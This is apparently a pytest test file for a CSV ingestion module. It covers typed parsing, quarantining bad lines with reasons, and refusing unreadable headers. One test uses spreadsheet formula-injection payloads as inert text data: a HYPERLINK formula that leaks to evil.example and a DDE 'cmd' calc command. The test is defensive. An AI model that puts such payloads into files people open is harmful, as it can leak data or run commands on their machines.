from __future__ import annotations

import gzip
import re
from datetime import timedelta
from pathlib import Path

import pyarrow as pa
import pytest
from flightplan.config import ColumnSpec
from flightplan.data import parse
from flightplan.data.ingest import read_header
from flightplan.data.parse import Chunk, parse_chunk, quarantine_every_line

COLUMNS = [
    ColumnSpec(name="n", type="int"),
    ColumnSpec(name="x", type="double"),
    ColumnSpec(name="at", type="timestamp", format="%Y-%m-%dT%H:%M:%S%z"),
    ColumnSpec(name="name", type="string"),
    ColumnSpec(name="ok", type="boolean"),
]
HEADER = ("n", "x", "at", "name", "ok")
NULLS = ["", "NA"]


def chunk(data: bytes, header: tuple[str, ...] = HEADER, **extra) -> Chunk:  # type: ignore[no-untyped-def]
    return Chunk(
        path="drop.csv", day="2013-01-01", start=0, end=len(data), first_line=2, header=header, index=0, **extra
    )


def test_good_rows_are_typed() -> None:
    data = b"1,2.5,2013-01-01T10:00:00Z,a,true\n2,NA,2013-01-01T11:00:00Z,,no\n"
    parsed = parse_chunk(data, chunk(data), COLUMNS, ",", NULLS)
    assert parsed.quarantine.num_rows == 0
    assert parsed.rows.schema.field("n").type == pa.int32()
    assert parsed.rows.column("x").to_pylist() == [2.5, None]
    assert parsed.rows.column("ok").to_pylist() == [True, False]
    assert parsed.rows.column("name").to_pylist() == ["a", None]
    assert str(parsed.rows.column("at").type) == "timestamp[us, tz=UTC]"


def test_every_bad_line_is_quarantined_with_its_line_and_reason() -> None:
    data = (
        b"1,2.5,2013-01-01T10:00:00Z,a,true\n"  # line 2: good
        b"2,3.5,2013-01-01T10:00:00Z\n"  # line 3: too few fields
        b"\n"  # line 4: blank
        b"3,inf,later,b,no\n"  # line 5: two bad values
        b"4,1,2013-01-01T10:00:00Z,caf\xe9,1\n"  # line 6: not UTF-8
        b"99999999999,1,2013-01-01T10:00:00Z,c,maybe\n"  # line 7: int overflow, not a boolean
        b"5.0, 7 ,2013-01-01T10:00:00Z,d,0\n"  # line 8: good (integral float, padded number)
    )
    parsed = parse_chunk(data, chunk(data), COLUMNS, ",", NULLS)
    assert parsed.rows.column("n").to_pylist() == [1, 5]
    assert parsed.blank_lines == 1
    rejected = {r["line"]: r["reason"] for r in parsed.quarantine.to_pylist()}
    assert rejected == {
        3: "expected 5 fields, found 3",
        5: "x: expected double, got 'inf'; at: expected timestamp, got 'later'",
        6: "not valid UTF-8: byte 0xe9 at column 29",
        7: "n: expected int, got '99999999999'; ok: expected boolean, got 'maybe'",
    }
    assert set(parsed.quarantine.column("source_file").to_pylist()) == {"drop.csv"}
    assert parsed.rows.num_rows + parsed.quarantine.num_rows + parsed.blank_lines == 7


def test_missing_column_is_null_and_extra_column_is_ignored() -> None:
    data = b"1,a,zzz\n"
    parsed = parse_chunk(data, chunk(data, header=("n", "name", "extra")), COLUMNS, ",", NULLS)
    assert parsed.rows.column_names == [c.name for c in COLUMNS]
    assert parsed.rows.column("x").to_pylist() == [None]
    assert parsed.quarantine.num_rows == 0


def test_other_delimiter() -> None:
    data = b"1;2,5;2013-01-01T10:00:00Z;a;true\n"
    parsed = parse_chunk(data, chunk(data), COLUMNS, ";", NULLS)
    assert parsed.quarantine.column("reason").to_pylist() == ["x: expected double, got '2,5'"]


def test_unreadable_file_is_quarantined_whole() -> None:
    data = b"a;b;c\n\nd;e;f\n"
    parsed = quarantine_every_line(data, chunk(data, rejected_because="header has none of the expected columns"))
    assert parsed.quarantine.column("line").to_pylist() == [2, 4]
    assert parsed.blank_lines == 1


CLEAN = b"1,2.5,2013-01-01T10:00:00Z,a,true\n2,NA,2013-01-01T06:00:00-0500,,no\n\n-3,1e3,2013-01-01T12:00:00+0000,NA,\n"


def test_clean_chunk_takes_one_typed_read_and_matches_the_line_by_line_parse(monkeypatch: pytest.MonkeyPatch) -> None:
    fast = parse_chunk(CLEAN, chunk(CLEAN), COLUMNS, ",", NULLS)
    monkeypatch.setattr(parse, "_read_clean_chunk", lambda *args: None)
    slow = parse_chunk(CLEAN, chunk(CLEAN), COLUMNS, ",", NULLS)
    assert fast.rows.equals(slow.rows)
    assert fast.rows.schema == slow.rows.schema
    assert fast.blank_lines == slow.blank_lines == 1
    assert fast.rows.column("at").to_pylist()[1] == fast.rows.column("at").to_pylist()[0] + timedelta(hours=1)


@pytest.mark.parametrize(
    "dirty",
    [b"1,nan,2013-01-01T10:00:00Z,a,true\n", b"1.0,1,2013-01-01T10:00:00Z,a,true\n", b",,,,\n", b"1,2\n"],
    ids=["non-finite", "integral float", "all empty", "short line"],
)
def test_anything_unusual_goes_the_line_by_line_way(dirty: bytes) -> None:
    assert parse._read_clean_chunk(CLEAN + dirty, chunk(CLEAN + dirty), COLUMNS, ",", NULLS) is None


def test_formula_strings_are_text_data_kept_as_they_came() -> None:
    """Cells starting with =, +, - or @ are what a spreadsheet would run as a formula. Ingestion keeps them as
    the text they are, unchanged (no leading quote added): a value altered on the way in would be a different
    category for the model and would not join. Where one sits in a number column it is a bad value like any
    other, quarantined with the whole line. The guard against running them belongs where a person opens data:
    the project writes Parquet (curated rows, quarantine) and an escaped HTML profile page, no CSV export;
    the integration test of hostile landing files checks that page."""
    hyperlink = '=HYPERLINK("http://evil.example/?leak=","click me")'
    data = (
        b'1,2.5,2013-01-01T10:00:00Z,"=HYPERLINK(""http://evil.example/?leak="",""click me"")",true\n'
        b"2,-3,2013-01-01T10:00:00Z,=cmd|' /C calc'!A0,false\n"
        b"3,+4,2013-01-01T10:00:00Z,@SUM(A1:A9),true\n"
        b"4,=1+2,2013-01-01T10:00:00Z,-2+3,true\n"
    )
    parsed = parse_chunk(data, chunk(data), COLUMNS, ",", NULLS)
    assert parsed.rows.column("name").to_pylist() == [hyperlink, "=cmd|' /C calc'!A0", "@SUM(A1:A9)"]
    assert parsed.rows.column("x").to_pylist() == [2.5, -3.0, 4.0]
    assert parsed.quarantine.to_pylist() == [
        {
            "source_file": "drop.csv",
            "line": 5,
            "reason": "x: expected double, got '=1+2'",
            "raw": "4,=1+2,2013-01-01T10:00:00Z,-2+3,true",
        }
    ]


def test_a_line_of_ten_thousand_fields_is_quarantined_with_its_line() -> None:
    good = b"1,2.5,2013-01-01T10:00:00Z,a,true\n"
    wide = b",".join([b"9"] * 10_000) + b"\n"
    data = good + wide + good
    parsed = parse_chunk(data, chunk(data), COLUMNS, ",", NULLS)
    assert parsed.rows.num_rows == 2
    assert parsed.quarantine.select(["line", "reason"]).to_pylist() == [
        {"line": 3, "reason": "expected 5 fields, found 10000"}
    ]
    assert parsed.quarantine.column("raw")[0].as_py() == wide.decode().rstrip("\n")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (gzip.compress(b"n,x\n1,2\n", mtime=0), "not a UTF-8 CSV file: byte 0x8b at column 2 of its first line"),
        ("n,x\n1,2\n".encode("utf-16"), "not a UTF-8 CSV file: byte 0xff at column 1 of its first line"),
        (b"n,\x00x\n1,2\n", "not a CSV file: its first line holds NUL bytes"),
        (b"n" * (2 << 20), "not a CSV file: its first line is longer than 1,048,576 bytes"),
        (b"\nn,x\n1,2\n", "the first line, where the header belongs, is blank"),
        (b'"' + b"n" * 200_000 + b'"\n1\n', "the first line is not a CSV header: field larger than field limit"),
    ],
    ids=["gzip", "utf-16", "NUL", "no newline", "blank first line", "one huge name"],
)
def test_a_first_line_that_cannot_be_a_header_is_refused_with_the_reason(
    tmp_path: Path, content: bytes, problem: str
) -> None:
    path = tmp_path / "drop.csv"
    path.write_bytes(content)
    with pytest.raises(ValueError, match=f"^{re.escape(problem)}"):
        read_header(path, ",")


def test_a_header_after_a_byte_order_mark_reads_as_the_names(tmp_path: Path) -> None:
    path = tmp_path / "drop.csv"
    path.write_bytes(b"\xef\xbb\xbfn,x\r\n1,2\r\n")
    assert read_header(path, ",") == (["n", "x"], 8)
    path.write_bytes(b"")
    assert read_header(path, ",") == (None, 0)
